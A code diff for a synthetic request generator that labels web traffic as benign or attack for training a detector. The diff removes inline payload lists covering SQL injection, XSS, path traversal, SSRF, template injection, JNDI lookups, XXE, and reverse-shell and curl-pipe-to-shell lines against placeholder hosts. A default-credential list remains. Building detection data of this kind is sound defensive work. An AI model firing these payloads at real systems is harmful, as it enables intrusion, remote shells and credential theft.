@@ -10,12 +10,13 @@ tells them apart.
 
 from __future__ import annotations
 
+import json
 import random
-from collections.abc import Callable, Iterator
+from collections.abc import Callable, Iterator, Sequence
 from pathlib import Path
 from typing import Any
-from urllib.parse import quote
 
+from trainer.attacks import ATTACK_FAMILIES, Payload, payload
 from trainer.data import format_row
 
 Event = dict[str, Any]
@@ -132,80 +133,6 @@ AGENTS = [
 LANGS = ["en-US,en;q=0.9", "de-DE,de;q=0.8", "fr-FR,fr;q=0.9,en;q=0.5", "ja-JP", "es-ES,es;q=0.9"]
 STATUS = [200] * 14 + [201, 204, 301, 304, 304, 400, 401, 403, 404, 404, 500]
 
-SQLI = [
-    "' OR '1'='1",
-    "' or 1=1--",
-    "1' AND SLEEP(5)#",
-    "1 UNION SELECT username,password FROM users--",
-    "admin'--",
-    "1;DROP TABLE users",
-    "' UNION ALL SELECT NULL,@@version,NULL-- -",
-    "1' AND extractvalue(1,concat(0x7e,(select database())))--",
-    '" or ""="',
-    "1) OR (SELECT 1 FROM pg_sleep(3))--",
-    "'; EXEC xp_cmdshell('dir')--",
-    "1 AND 1=CONVERT(int,@@version)",
-]
-XSS = [
-    "<script>alert(1)</script>",
-    '"><img src=x onerror=alert(document.cookie)>',
-    "javascript:alert(String.fromCharCode(88,83,83))",
-    "<svg/onload=fetch('//x.example/'+document.cookie)>",
-    "<iframe src=javascript:alert(1)>",
-    "'-alert(1)-'",
-    "<body onload=alert('xss')>",
-    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
-    "<ScRiPt>prompt(1)</sCrIpT>",
-    '<a href="jav&#x09;ascript:alert(1)">x</a>',
-]
-TRAVERSAL = [
-    "../../../../etc/passwd",
-    "..%2f..%2f..%2fetc%2fshadow",
-    "....//....//windows/win.ini",
-    "..\\..\\..\\boot.ini",
-    "/etc/passwd%00.jpg",
-    "%2e%2e%2f%2e%2e%2fproc/self/environ",
-    "file/../../../../var/log/auth.log",
-    "..%c0%af..%c0%afetc/hosts",
-]
-CMDI = [
-    "; cat /etc/passwd",
-    "| nc -e /bin/sh 203.0.113.9 4444",
-    "$(curl -s http://203.0.113.7/x.sh|sh)",
-    "`id`",
-    "&& wget http://198.51.100.3/bot -O /tmp/b",
-    "; ping -c 10 127.0.0.1",
-    "|| whoami",
-    "%3Becho%20$((57%2B95))",
-    "; bash -i >& /dev/tcp/203.0.113.5/8080 0>&1",
-]
-SSRF = [
-    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
-    "http://localhost:6379/",
-    "file:///etc/passwd",
-    "gopher://127.0.0.1:11211/_stats",
-    "http://[::1]:2375/containers/json",
-    "http://metadata.google.internal/computeMetadata/v1/",
-    "dict://127.0.0.1:22/",
-    "http://0x7f000001/admin",
-]
-SSTI = [
-    "{{7*7}}",
-    "${7*7}",
-    "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
-    "<%= 7*7 %>",
-    "#{7*7}",
-    "{{''.__class__.__mro__[1].__subclasses__()}}",
-    "*{T(java.lang.Runtime).getRuntime().exec('id')}",
-]
-JNDI = [
-    "${jndi:ldap://203.0.113.4:1389/a}",
-    "${${lower:j}ndi:${lower:l}dap://x.example/a}",
-    "${jndi:rmi://198.51.100.2/obj}",
-    "${${::-j}${::-n}${::-d}${::-i}:dns://x.example}",
-    "${jndi:ldap://${env:USER}.x.example/}",
-]
-NOSQL = [{"$ne": None}, {"$gt": ""}, {"$regex": ".*"}, {"$where": "sleep(5000)"}]
 STUFFED = [
     ("admin", "admin"),
     ("root", "toor"),
@@ -216,19 +143,6 @@ STUFFED = [
     ("guest", "guest"),
     ("sa", ""),
 ]
-XXE = ['<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>']
-LDAP = ["*)(uid=*))(|(uid=*", "admin)(&(password=*))", "*)(objectClass=*"]
-FAMILIES: dict[str, list[str]] = {
-    "sqli": SQLI,
-    "xss": XSS,
-    "traversal": TRAVERSAL,
-    "cmdi": CMDI,
-    "ssrf": SSRF,
-    "ssti": SSTI,
-    "jndi": JNDI,
-    "xxe": XXE,
-    "ldap": LDAP,
-}
 
 
 class _Gen:
@@ -236,7 +150,7 @@ class _Gen:
         self.r = random.Random(seed)
         self.clock = 1_767_225_600_000  # 2026-01-01T00:00:00Z in ms
 
-    def pick(self, seq: list[Any]) -> Any:
+    def pick(self, seq: Sequence[Any]) -> Any:
         return self.r.choice(seq)
 
     def user(self) -> str:
@@ -259,16 +173,11 @@ class _Gen:
             return f"2001:db8:{r.randint(0, 65535):x}::{r.randint(1, 65535):x}"
         return f"{r.randint(1, 223)}.{r.randint(0, 255)}.{r.randint(0, 255)}.{r.randint(1, 254)}"
 
-    def payload(self, family: str) -> str:
-        text = self.pick(FAMILIES[family])
-        r = self.r
-        if r.random() < 0.25:
-            text = quote(text, safe="")
-        elif r.random() < 0.2:
-            text = "".join(c.upper() if r.random() < 0.5 else c for c in text)
-        if r.random() < 0.3:
-            text = self.pick([str(r.randint(1, 9999)), self.phrase(), self.user()]) + text
-        return text
+    def payload(self, family: str) -> Payload:
+        made = payload(self.r, family)
+        if isinstance(made.value, str) and made.key is None and self.r.random() < 0.3:
+            made = Payload(self.pick([str(self.r.randint(1, 9999)), self.phrase(), self.user()]) + made.value)
+        return made
 
     # --- one benign request per route; ``attack`` replaces one user-controlled value ------
     def route(self, attack: Callable[[], str] | None) -> tuple[str, str, dict[str, Any], Any]:
@@ -333,22 +242,31 @@ class _Gen:
         }
         return "get", "/api/v1/orders", q, None
 
-    def special_attack(self) -> tuple[str, str, dict[str, Any], Any]:
-        """Attacks whose shape is a whole body: NoSQL operators, credential stuffing."""
-        r = self.r
-        if r.random() < 0.5:
-            op = self.pick(NOSQL)
-            return "post", "/api/login", {}, {"username": self.pick(["admin", self.user()]), "password": op}
+    def stuffing(self) -> tuple[str, str, dict[str, Any], Any]:
+        """Credential stuffing: a login with a common pair, told apart by rate, not content."""
         user, password = self.pick(STUFFED)
         return "post", "/api/login", {}, {"username": user, "password": password, "remember": False}
 
-    def event(self, attack: bool) -> Event:
-        r = self.r
-        if attack and r.random() < 0.08:
-            method, path, query, body = self.special_attack()
+    def grafted(self, made: Payload) -> tuple[str, str, dict[str, Any], Any]:
+        """A benign request with a structured payload (an operator, a polluting key) in one of its fields."""
+        method, path, query, body = self.route(None)
+        if isinstance(body, dict):
+            body[made.key or self.pick(list(body))] = made.value
         else:
-            family = self.pick(list(FAMILIES)) if attack else None
-            method, path, query, body = self.route((lambda: self.payload(family)) if family else None)
+            value = made.value if isinstance(made.value, str) else json.dumps(made.value)
+            query[made.key or self.pick(list(query) or ["q"])] = value
+        return method, path, query, body
+
+    def event(self, family: str | None) -> Event:
+        """A request; with ``family`` ("stuffing" or one of :data:`ATTACK_FAMILIES`), an attack."""
+        r = self.r
+        made = self.payload(family) if family and family != "stuffing" else None
+        if family == "stuffing":
+            method, path, query, body = self.stuffing()
+        elif made is not None and (made.key is not None or not isinstance(made.value, str)):
+            method, path, query, body = self.grafted(made)
+        else:
+            method, path, query, body = self.route((lambda: made.value) if made else None)
         self.clock += r.randint(1, 400)
         status = self.pick(STATUS)
         source: dict[str, Any] = {"remoteAddress": self.address()}
@@ -390,8 +308,12 @@ class _Gen:
         }
 
 
-def generate_events(rows: int, *, seed: int = 0, attack_share: float = 0.5) -> Iterator[tuple[Event, int]]:
-    """``rows`` (event, label) pairs; exactly ``round(rows * attack_share)`` are attacks."""
+def labelled_events(rows: int, *, seed: int = 0, attack_share: float = 0.5) -> Iterator[tuple[Event, int, str]]:
+    """``rows`` (event, label, family) triples, family "" for benign requests.
+
+    Exactly ``round(rows * attack_share)`` are attacks: one in 25 credential stuffing, the
+    rest spread over :data:`trainer.attacks.ATTACK_FAMILIES`.
+    """
     if not 0.0 <= attack_share <= 1.0:
         raise ValueError("attack_share must lie in [0, 1]")
     gen = _Gen(seed)
@@ -399,13 +321,21 @@ def generate_events(rows: int, *, seed: int = 0, attack_share: float = 0.5) -> I
     labels = [1] * attacks + [0] * (rows - attacks)
     gen.r.shuffle(labels)
     for label in labels:
-        yield gen.event(bool(label)), label
+        family = ("stuffing" if gen.r.random() < 0.04 else gen.pick(ATTACK_FAMILIES)) if label else ""
+        yield gen.event(family or None), label, family
+
+
+def generate_events(rows: int, *, seed: int = 0, attack_share: float = 0.5) -> Iterator[tuple[Event, int]]:
+    """``rows`` (event, label) pairs; exactly ``round(rows * attack_share)`` are attacks."""
+    for event, label, _ in labelled_events(rows, seed=seed, attack_share=attack_share):
+        yield event, label
 
 
 def write_csv(path: str | Path, rows: int, *, seed: int = 0, attack_share: float = 0.5) -> int:
+    """Labelled CSV in the reference format, with a third column naming each attack's family."""
     path = Path(path)
     path.parent.mkdir(parents=True, exist_ok=True)
     with path.open("w", encoding="utf-8", newline="") as handle:
-        for event, label in generate_events(rows, seed=seed, attack_share=attack_share):
-            handle.write(format_row(event, label))
+        for event, label, family in labelled_events(rows, seed=seed, attack_share=attack_share):
+            handle.write(format_row(event, label, family))
     return rows
